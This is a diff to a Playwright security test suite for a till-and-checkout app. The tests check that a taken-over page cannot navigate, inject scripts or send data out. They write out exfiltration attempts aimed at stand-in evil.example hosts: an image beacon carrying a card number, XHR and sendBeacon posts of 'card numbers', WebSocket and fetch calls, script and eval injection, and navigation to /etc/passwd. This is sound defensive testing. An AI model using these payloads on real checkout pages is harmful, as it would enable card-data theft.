@@ -2,6 +2,7 @@ import type { Page } from 'playwright';
 import { type Role, channels } from '../../contract/channels.ts';
 import { type RawIpc, compromisedApp } from './compromised-app.ts';
 import { expect, test } from './connected-till.ts';
+import { addressOf } from '../host/driver.ts';
 import { type TillApp, openTillApp } from './till-app.ts';
 
 /** The till and the checkout page of one sale, both as they stand on the screen. */
@@ -15,6 +16,19 @@ async function bothPages(app: TillApp): Promise<readonly [till: Page, checkout: 
 function logged(app: TillApp, what: string): string[] {
   const lines = app.log().split('\n').map((line) => line.split(' '));
   return lines.filter((words) => words[2] === what).map((words) => words.slice(3).join(' '));
+}
+
+/** Puts an element into the page, as a script that should not be there would, and uses it. */
+async function insert(page: Page, name: string, attributes: Readonly<Record<string, string>>, use?: 'click' | 'submit'): Promise<void> {
+  await page.evaluate(
+    ([tag, values, action]) => {
+      const element = document.createElement(tag);
+      for (const [key, value] of Object.entries(values)) element.setAttribute(key, value);
+      document.body.append(element);
+      if (action !== undefined) (element as HTMLElement & { submit(): void })[action]();
+    },
+    [name, attributes, use] as const,
+  );
 }
 
 async function browserContextOf(page: Page): Promise<string | undefined> {
@@ -86,7 +100,7 @@ test('S-10, S-11, S-12: each window is created safe, in a session of its own, wi
   }
 });
 
-test('S-14: a page that was taken over reaches main only through the calls of its own window, and each of its tries is logged', async ({ target, userData }, info) => {
+test('S-14, S-04: a page that was taken over reaches main only through the calls of its own window, and no host at all; each try is logged', async ({ target, userData }, info) => {
   const app = await openTillApp(target, userData, compromisedApp(info.outputPath('app')));
   const [till, checkout] = await bothPages(app);
   const REFUSED = { kind: 'failed', failure: { kind: 'refused' } };
@@ -122,6 +136,31 @@ test('S-14: a page that was taken over reaches main only through the calls of it
     for (const name of ['till:goBack', 'till:newSale', 'error']) raw.send(name, { saleId: id });
   }, saleId);
 
+  // No policy holds in here any more: the request filter is the last wall, and it keeps a record.
+  const field = checkout.frames().find((frame) => frame.name() === 'cardNumber')!;
+  for (const [place, frame, role] of [['till', till.mainFrame(), 'till'], ['form', checkout.mainFrame(), 'checkout'], ['field', field, 'checkout']] as const) {
+    await frame.evaluate(async (name) => {
+      const script = document.createElement('script');
+      script.src = `https://${name}-script.evil.example/x.js`;
+      document.head.append(script);
+      new Image().src = `https://${name}-image.evil.example/card?number=4242`;
+      const inner = document.createElement('iframe');
+      inner.src = `https://${name}-frame.evil.example/`;
+      document.body.append(inner);
+      const request = new XMLHttpRequest();
+      request.open('POST', `https://${name}-request.evil.example/`);
+      request.send('card numbers');
+    }, place);
+    for (const what of ['script', 'image', 'frame', 'request']) {
+      await expect.poll(() => logged(app, 'window.request-refused').filter((line) => line.startsWith(`{"role":"${role}","url":"https://${place}-${what}.evil.example/`))).toHaveLength(1);
+    }
+  }
+  expect(app.log()).not.toContain('number=4242');
+  await field.evaluate(() => {
+    top!.location.href = 'https://top.evil.example/';
+  });
+  await expect.poll(() => logged(app, 'window.navigation-refused')).toContain('{"url":"https://top.evil.example/"}');
+
   // Reports about another checkout move nothing; asking to submit another one ends the form, and nothing was charged.
   expect(await invoke(checkout, 'checkout:goBack', { checkoutId: 'cho_other' })).toEqual({ kind: 'ok', value: null });
   await expect(till.getByText('Ready for the card.')).toBeVisible();
@@ -134,13 +173,13 @@ test('S-14: a page that was taken over reaches main only through the calls of it
 test('S-13: neither page leads anywhere: not by a link, a form, a script, a new window or a download', async ({ app }) => {
   const pages = await bothPages(app);
   const { port } = new URL(pages[1].url());
-  const windowsBefore = app.counter.windows().length;
   const navigate = (page: Page, url: string) =>
     page.evaluate((to) => {
       location.href = to;
     }, url);
 
   for (const page of pages) {
+    const role = page === pages[0] ? 'till' : 'checkout';
     const address = page.url();
     const title = await page.title();
     const refused = [
@@ -154,37 +193,98 @@ test('S-13: neither page leads anywhere: not by a link, a form, a script, a new 
       'app://other/',
       'app://till.evil.example/',
     ];
-    const before = logged(app, 'window.navigation-refused').length;
-    for (const url of refused) await navigate(page, url);
+    // The address without what the log must not carry: names in front of the host, queries.
+    const line = (url: string) => `{"url":"${url.replace(/^(https?:\/\/)[^/@]*@/u, '$1').replace(/\?.*$/u, '')}"}`;
+    const expectRefused = (what: string, url: string) => expect.poll(() => logged(app, what).filter((each) => each === line(url))).toHaveLength(1);
+    for (const url of refused) {
+      const before = logged(app, 'window.navigation-refused').length;
+      await navigate(page, url);
+      await expect.poll(() => logged(app, 'window.navigation-refused').slice(before)).toEqual([line(url)]);
+    }
     // Chromium itself or the page's policy stops these, so no guard hears of them.
     for (const url of ['file:///etc/passwd', 'javascript:document.title="taken over"', 'data:text/html,taken over']) await navigate(page, url);
-    await page.evaluate(() => {
-      const add = (name: string, attributes: Readonly<Record<string, string>>) => {
-        const element = document.createElement(name);
-        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
-        document.body.append(element);
-        return element;
-      };
-      add('a', { href: 'http://link.evil.example/' }).click();
-      add('a', { href: 'http://new.evil.example/', target: '_blank' }).click();
-      (add('form', { action: 'http://form.evil.example/', method: 'post' }) as HTMLFormElement).submit();
-      add('meta', { 'http-equiv': 'refresh', content: '0;url=http://meta.evil.example/' });
-      const opened = window.open('http://opened.evil.example/');
-      const popUp = window.open('about:blank', 'pop-up', 'width=300,height=200');
-      add('a', { href: URL.createObjectURL(new Blob(['card numbers'])), download: 'cards.txt' }).click();
-      return [opened, popUp];
-    });
-    // The last one: when this has been refused, so has everything before it.
-    await navigate(page, 'https://last.evil.example/');
-    const shown = (url: string) => `{"url":"${url.replace(/^(https?:\/\/)[^/@]*@/u, '$1').replace(/\?.*$/u, '')}"}`;
-    await expect.poll(() => logged(app, 'window.navigation-refused').slice(before)).toEqual(expect.arrayContaining([...refused, 'http://link.evil.example/', 'https://last.evil.example/'].map(shown)));
-    for (const url of ['http://new.evil.example/', 'http://opened.evil.example/']) await expect.poll(() => logged(app, 'window.open-refused')).toContain(shown(url));
-    const role = page === pages[0] ? 'till' : 'checkout';
+    await insert(page, 'form', { action: `http://form-${role}.evil.example/`, method: 'post' }, 'submit');
+    await insert(page, 'a', { href: `http://link-${role}.evil.example/` }, 'click');
+    await expectRefused('window.navigation-refused', `http://link-${role}.evil.example/`);
+    await insert(page, 'meta', { 'http-equiv': 'refresh', content: `0;url=http://meta-${role}.evil.example/` });
+    await expectRefused('window.navigation-refused', `http://meta-${role}.evil.example/`);
+    await insert(page, 'a', { href: `http://new-${role}.evil.example/`, target: '_blank' }, 'click');
+    await expectRefused('window.open-refused', `http://new-${role}.evil.example/`);
+    await page.evaluate((url) => window.open(url, 'pop-up', 'width=300,height=200'), `http://opened-${role}.evil.example/`);
+    await expectRefused('window.open-refused', `http://opened-${role}.evil.example/`);
+    const file = await page.evaluate(() => URL.createObjectURL(new Blob(['card numbers'])));
+    await insert(page, 'a', { href: file, download: 'cards.txt' }, 'click');
     await expect.poll(() => logged(app, 'window.download-refused')).toContain(`{"role":"${role}"}`);
     expect(page.url()).toBe(address);
     expect(await page.title()).toBe(title);
   }
-  expect(app.counter.windows()).toHaveLength(windowsBefore);
-  expect(app.log()).not.toContain('in-the-query');
+  // Counter's own windows come and go; nobody else's is there.
+  for (const page of app.counter.windows()) expect(addressOf(page)).toMatch(/^(app:\/\/till|http:\/\/localhost:\d+)\/$/u);
+  for (const never of ['form-till', 'form-checkout', 'in-the-query', 'taken over', 'passwd']) expect(app.log()).not.toContain(never);
   expect(await app.counter.recorded('shell.openExternal')).toEqual([]);
+});
+
+test('S-04: what is put into either page does not run and reaches nobody', async ({ app }) => {
+  for (const page of await bothPages(app)) {
+    const violated = await page.evaluate(async () => {
+      const directives = new Set<string>();
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => directives.add(effectiveDirective));
+      const tried = (attempt: () => unknown) => {
+        try {
+          return attempt();
+        } catch {
+          return undefined;
+        }
+      };
+      const put = (name: string, values: Readonly<Record<string, string>>) => {
+        const element = document.createElement(name);
+        for (const [key, value] of Object.entries(values)) tried(() => ((element as unknown as Record<string, string>)[key] = value));
+        document.body.append(element);
+        return element;
+      };
+      const run = 'window.injected = true';
+      put('script', { textContent: run });
+      put('script', { src: 'https://script.evil.example/x.js' });
+      put('div', { innerHTML: `<img src=x onerror="${run}">` });
+      const clicked = put('i', {});
+      tried(() => clicked.setAttribute('onclick', run));
+      clicked.click();
+      put('img', { src: 'https://img.evil.example/x.png' });
+      put('iframe', { src: 'https://frame.evil.example/' });
+      put('style', { textContent: 'body { display: none }' });
+      put('link', { rel: 'stylesheet', href: 'https://style.evil.example/x.css' });
+      put('base', { href: 'https://base.evil.example/' });
+      put('object', { data: 'https://object.evil.example/' });
+      // Not in this evaluation itself: DevTools' own code may use eval.
+      await new Promise<void>((resolve) => {
+        setTimeout(() => {
+          // oxlint-disable-next-line no-eval -- that it is refused is what is tested
+          tried(() => (0, eval)(run));
+          // oxlint-disable-next-line typescript/no-implied-eval -- as above
+          tried(() => new Function(run)());
+          resolve();
+        });
+      });
+      const elsewhere: string = 'https://module.evil.example/x.js';
+      await import(elsewhere).catch(() => undefined);
+      const request = new XMLHttpRequest();
+      request.open('POST', 'https://connect.evil.example/');
+      const sent = new Promise((resolve) => request.addEventListener('loadend', resolve));
+      tried(() => request.send('card numbers'));
+      await sent;
+      tried(() => navigator.sendBeacon('https://beacon.evil.example/', 'card numbers'));
+      tried(() => new WebSocket('wss://socket.evil.example/'));
+      tried(() => new Worker(URL.createObjectURL(new Blob([run]))));
+      await fetch('https://fetch.evil.example/').catch(() => undefined);
+      return { directives: [...directives].toSorted(), injected: 'injected' in window };
+    });
+    expect(violated).toEqual({
+      directives: ['base-uri', 'connect-src', 'frame-src', 'img-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-elem'],
+      injected: false,
+    });
+  }
+  // Nothing came as far as the request filter, which is the next wall.
+  expect(logged(app, 'window.request-refused')).toEqual([]);
+  // The checkout page's own guard in front of fetch tells main of it as well.
+  expect(logged(app, 'checkout-page.request-refused')).toEqual(['{"detail":"https://fetch.evil.example"}']);
 });
